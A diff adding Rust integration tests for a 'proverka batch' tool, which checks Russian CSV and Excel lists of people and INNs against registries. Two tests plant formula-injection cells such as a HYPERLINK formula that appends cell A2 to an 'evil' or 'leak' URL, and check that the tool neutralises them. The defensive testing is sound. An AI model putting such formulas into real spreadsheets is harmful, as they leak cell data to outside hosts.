@@ -1,0 +1,383 @@
+//! `proverka batch` on lists as the people who keep them have them: a Russian Excel CSV
+//! (Windows-1251, one ФИО column), an HR workbook with a second sheet and INNs stored as
+//! numbers, hostile cells from the input and from a provider; the outputs read back with
+//! independent readers (the `csv` crate, calamine, and openpyxl from Debian's python3).
+
+use std::path::Path;
+
+use proverka_core::Provider;
+use proverka_sandbox::Fault;
+
+mod common;
+
+use common::*;
+
+/// openpyxl's view of a workbook: per sheet, its name and each cell as `[type, value]`
+/// (`n` number, `s` text, `d` date, `f` formula), row by row.
+fn openpyxl(path: &Path) -> serde_json::Value {
+    let script = r#"
+import json, sys, datetime, openpyxl
+book = openpyxl.load_workbook(sys.argv[1])
+out = []
+for ws in book.worksheets:
+    rows = []
+    for row in ws.iter_rows():
+        cells = []
+        for c in row:
+            v = c.value
+            if isinstance(v, datetime.datetime):
+                v = v.date().isoformat()
+            cells.append([c.data_type, v])
+        rows.append(cells)
+    out.append({"name": ws.title, "rows": rows})
+print(json.dumps(out, ensure_ascii=False))
+"#;
+    let out = std::process::Command::new("/usr/bin/python3")
+        .args(["-c", script])
+        .arg(path)
+        .output()
+        .expect("Debian's python3 with python3-openpyxl (scripts/ensure-deps.sh installs it)");
+    assert!(
+        out.status.success(),
+        "openpyxl: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    serde_json::from_slice(&out.stdout).unwrap()
+}
+
+/// The cells of a column by its header in an openpyxl sheet.
+fn sheet_column(sheet: &serde_json::Value, name: &str) -> Vec<serde_json::Value> {
+    let rows = sheet["rows"].as_array().unwrap();
+    let i = rows[0]
+        .as_array()
+        .unwrap()
+        .iter()
+        .position(|c| c[1] == name)
+        .unwrap_or_else(|| panic!("no column {name}: {}", rows[0]));
+    rows[1..].iter().map(|r| r[i].clone()).collect()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_russian_excel_csv_with_one_fio_column_and_hostile_cells() {
+    let s = sandbox().await;
+    let d = dir("cp1251");
+    let input = d.join("подрядчики.csv");
+    let (debtor_last, debtor_first, debtor_birth) = proverka_sandbox::FSSP_DEBTOR;
+    let text = format!(
+        "ФИО;Дата рождения;Комментарий\r\n\
+         {debtor_last} {debtor_first} Петрович;{debtor_birth};\"=HYPERLINK(\"\"http://x/?leak=\"\"&A2;\"\"Click\"\")\"\r\n\
+         Мамедов Рашид Али оглы;01.01.1990;@SUM(A1:A9)\r\n\
+         Иванов;01.01.1990;-5\r\n"
+    );
+    let (bytes, _, unmappable) = encoding_rs::WINDOWS_1251.encode(&text);
+    assert!(!unmappable);
+    std::fs::write(&input, &bytes).unwrap();
+    let out = d.join("result.csv");
+    let mut c = proverka(&s);
+    batch(&mut c, &input, "fssp-physical", &out);
+    let (code, log) = run(c).await;
+    assert_eq!(code, 0, "{log}");
+    let raw = std::fs::read(&out).unwrap();
+    assert!(
+        raw.starts_with(b"\xEF\xBB\xBF"),
+        "UTF-8 with a BOM for Excel"
+    );
+    let rows = read_csv(&out, b';');
+    assert_eq!(rows[0][0].trim_start_matches('\u{feff}'), "ФИО");
+    assert_eq!(
+        column(&rows, "status"),
+        ["ok", "ok", "invalid"],
+        "{:?}",
+        column(&rows, "error_message")
+    );
+    // Split as written: the Turkic patronymic kept whole; one word refused, saying how.
+    assert!(
+        column(&rows, "error_message")[2].contains("разнесите по колонкам"),
+        "{rows:?}"
+    );
+    assert!(
+        column(&rows, "note")[1].contains("отчество «Али оглы» не отправлено"),
+        "{rows:?}"
+    );
+    assert_eq!(s.calls(Provider::Fssp), 2);
+    // No cell starts a formula, from the input or otherwise.
+    assert_eq!(
+        column(&rows, "Комментарий"),
+        [
+            "'=HYPERLINK(\"http://x/?leak=\"&A2;\"Click\")",
+            "'@SUM(A1:A9)",
+            "'-5"
+        ]
+    );
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?}"
+            );
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_provider_s_hostile_text_never_becomes_a_formula() {
+    let s = sandbox().await;
+    s.inject(
+        Provider::Court,
+        Fault::ProviderError {
+            code: "=HYPERLINK(\"http://evil/?\"&A2,\"Click\")".into(),
+        },
+        None,
+    );
+    let d = dir("hostile");
+    let input = d.join("addresses.csv");
+    std::fs::write(
+        &input,
+        format!("Адрес\n{}\n", proverka_sandbox::COURT_ADDRESS_FOUND),
+    )
+    .unwrap();
+    for name in ["courts.csv", "courts.xlsx"] {
+        let out = d.join(name);
+        let mut c = proverka(&s);
+        batch(&mut c, &input, "court", &out);
+        let (code, log) = run(c).await;
+        assert_eq!(code, 1, "the row failed: {log}");
+        if name.ends_with(".csv") {
+            // One column in: the output takes Russian Excel's `;`.
+            let rows = read_csv(&out, b';');
+            let code = &column(&rows, "error_code")[0];
+            assert!(code.starts_with("'=HYPERLINK"), "{code}");
+        } else {
+            let book = openpyxl(&out);
+            for sheet in book.as_array().unwrap() {
+                for row in sheet["rows"].as_array().unwrap() {
+                    for cell in row.as_array().unwrap() {
+                        assert_ne!(cell[0], "f", "a formula in {}: {cell}", sheet["name"]);
+                    }
+                }
+            }
+            let sheet = &book[0];
+            assert_eq!(
+                sheet_column(sheet, "error_code")[0],
+                serde_json::json!(["s", "=HYPERLINK(\"http://evil/?\"&A2,\"Click\")"])
+            );
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_hr_workbook_keeps_its_sheets_and_types_and_gets_its_inns_back() {
+    let s = sandbox().await;
+    let d = dir("hr-xlsx");
+    let input = d.join("hr.xlsx");
+    let payer: f64 = proverka_sandbox::NPD_PAYER.parse().unwrap();
+    {
+        let mut book = rust_xlsxwriter::Workbook::new();
+        let staff = book.add_worksheet();
+        staff.set_name("Сотрудники").unwrap();
+        let date = rust_xlsxwriter::Format::new().set_num_format("dd.mm.yyyy");
+        for (c, h) in ["№", "ФИО", "ИНН", "Дата рождения", "Оклад"]
+            .iter()
+            .enumerate()
+        {
+            staff.write_string(0, c as u16, *h).unwrap();
+        }
+        let rows: [(&str, f64, f64); 3] = [
+            ("Петров Пётр", payer, 60084.36),
+            ("Сидоров Сидор", payer, -1500.0),
+            ("Козлов Кузьма", 12345.0, 1.0),
+        ];
+        for (r, (fio, inn, pay)) in rows.iter().enumerate() {
+            let r = r as u32 + 1;
+            staff.write_number(r, 0, f64::from(r)).unwrap();
+            staff.write_string(r, 1, *fio).unwrap();
+            staff.write_number(r, 2, *inn).unwrap();
+            let born = rust_xlsxwriter::ExcelDateTime::from_ymd(1968, 7, 5).unwrap();
+            staff
+                .write_datetime_with_format(r, 3, &born, &date)
+                .unwrap();
+            staff.write_number(r, 4, *pay).unwrap();
+        }
+        let notes = book.add_worksheet();
+        notes.set_name("Справочник").unwrap();
+        notes.write_string(0, 0, "Отдел").unwrap();
+        notes.write_string(1, 0, "Бухгалтерия").unwrap();
+        notes.write_number(1, 1, 42.0).unwrap();
+        book.save(&input).unwrap();
+    }
+    // The input is never the output.
+    let mut same = proverka(&s);
+    batch(&mut same, &input, "npd", &input);
+    let (code, log) = run(same).await;
+    assert_eq!(code, 2, "{log}");
+    assert!(log.contains("is the input file"), "{log}");
+    assert_eq!(openpyxl(&input).as_array().unwrap().len(), 2, "untouched");
+
+    let out = d.join("hr-checked.xlsx");
+    let mut c = proverka(&s);
+    batch(&mut c, &input, "npd", &out);
+    let (code, log) = run(c).await;
+    assert_eq!(code, 0, "{log}");
+    let book = openpyxl(&out);
+    let names: Vec<&str> = book
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s["name"].as_str().unwrap())
+        .collect();
+    assert_eq!(names, ["Сотрудники", "Справочник", "Итог"]);
+    let staff = &book[0];
+    // Numbers stay numbers, dates dates.
+    assert_eq!(sheet_column(staff, "№")[0], serde_json::json!(["n", 1]));
+    assert_eq!(
+        sheet_column(staff, "Оклад")[..2],
+        [
+            serde_json::json!(["n", 60084.36]),
+            serde_json::json!(["n", -1500])
+        ]
+    );
+    assert_eq!(
+        sheet_column(staff, "Дата рождения")[0],
+        serde_json::json!(["d", "1968-07-05"])
+    );
+    assert_eq!(
+        sheet_column(staff, "status"),
+        [
+            serde_json::json!(["s", "ok"]),
+            serde_json::json!(["s", "ok"]),
+            serde_json::json!(["s", "invalid"])
+        ]
+    );
+    assert_eq!(
+        sheet_column(staff, "self_employed")[0],
+        serde_json::json!(["s", "да"])
+    );
+    assert_eq!(
+        sheet_column(staff, "price_rub")[0],
+        serde_json::json!(["n", 1.5])
+    );
+    // The duplicate row points at the first and cost nothing.
+    assert_eq!(
+        sheet_column(staff, "price_rub")[1],
+        serde_json::json!(["n", 0])
+    );
+    assert_eq!(
+        sheet_column(staff, "source")[1],
+        serde_json::json!(["s", "дубль строки 2"])
+    );
+    assert_eq!(s.calls(Provider::Npd), 1);
+    // The other sheet as it was.
+    assert_eq!(
+        book[1]["rows"][1],
+        serde_json::json!([["s", "Бухгалтерия"], ["n", 42]])
+    );
+    // The summary.
+    let summary = &book[2]["rows"];
+    let value = |label: &str| {
+        summary
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|r| r[0][1] == label)
+            .map(|r| r[1].clone())
+            .unwrap_or_else(|| panic!("no {label} in {summary}"))
+    };
+    assert_eq!(value("Строк"), serde_json::json!(["n", 3]));
+    assert_eq!(
+        value("Оплачено в этом запуске, ₽"),
+        serde_json::json!(["n", 1.5])
+    );
+    assert_eq!(
+        value("Сэкономлено на дублях, ₽"),
+        serde_json::json!(["n", 1.5])
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_inn_that_lost_its_leading_zero_is_restored_and_said() {
+    let s = sandbox().await;
+    let d = dir("inn-zero");
+    let input = d.join("inns.csv");
+    // An organisation's INN that starts with 0, as a spreadsheet exports it: 9 digits.
+    let org = "0274062111";
+    assert!(proverka_core::Inn::parse(org).is_ok());
+    std::fs::write(&input, format!("ИНН\n{}\n", &org[1..])).unwrap();
+    let out = d.join("out.csv");
+    let mut c = proverka(&s);
+    batch(&mut c, &input, "fssp-inn", &out);
+    let (code, log) = run(c).await;
+    assert_eq!(code, 0, "{log}");
+    let rows = read_csv(&out, b';');
+    assert_eq!(column(&rows, "status"), ["ok"]);
+    assert!(
+        column(&rows, "note")[0].contains(&format!("восстановлен как {org}")),
+        "{rows:?}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_dry_run_lists_what_is_wrong_and_fails_when_nothing_can_be_sent() {
+    let s = sandbox().await;
+    let d = dir("dry-nothing");
+    let input = d.join("list.csv");
+    std::fs::write(
+        &input,
+        "ФИО;Дата рождения\nИванов;01.01.1990\nПетров;31.02.1990\n",
+    )
+    .unwrap();
+    let out = d.join("out.csv");
+    let report = d.join("invalid.csv");
+    let mut c = proverka(&s);
+    batch(&mut c, &input, "fssp-physical", &out);
+    c.arg("--dry-run").arg("--report").arg(&report);
+    let (code, log) = run(c).await;
+    assert_eq!(code, 2, "no row can be sent: {log}");
+    assert!(
+        log.contains("line 2: ") && log.contains("line 3: "),
+        "{log}"
+    );
+    let rows = read_csv(&report, b';');
+    assert_eq!(column(&rows, "line"), ["2", "3"]);
+    // Nothing behind: no output, no store beside it.
+    let left: Vec<_> = std::fs::read_dir(&d)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    let mut left = left;
+    left.sort();
+    assert_eq!(left, ["invalid.csv", "list.csv"]);
+    assert_eq!(s.calls(Provider::Fssp), 0);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn malformed_lists_are_refused_with_the_line_and_what_to_do() {
+    let s = sandbox().await;
+    let d = dir("malformed");
+    let out = d.join("out.csv");
+    for (name, text, says) in [
+        (
+            "quote.csv",
+            "ИНН;Комментарий\n1;\"не закрыта\n2;x\n3;y\n",
+            "line 2: a quote",
+        ),
+        (
+            "beyond.csv",
+            "ИНН;ФИО\n1;Иванов;лишнее\n",
+            "line 2: a value in column C",
+        ),
+        (
+            "twins.csv",
+            "ИНН;inn\n1;2\n",
+            "columns A («ИНН») and B («inn») both give inn",
+        ),
+    ] {
+        let input = d.join(name);
+        std::fs::write(&input, text).unwrap();
+        let mut c = proverka(&s);
+        batch(&mut c, &input, "npd", &out);
+        let (code, log) = run(c).await;
+        assert_eq!(code, 2, "{name}: {log}");
+        assert!(log.contains(says), "{name}: {log}");
+    }
+    assert_eq!(s.calls(Provider::Npd), 0);
+}
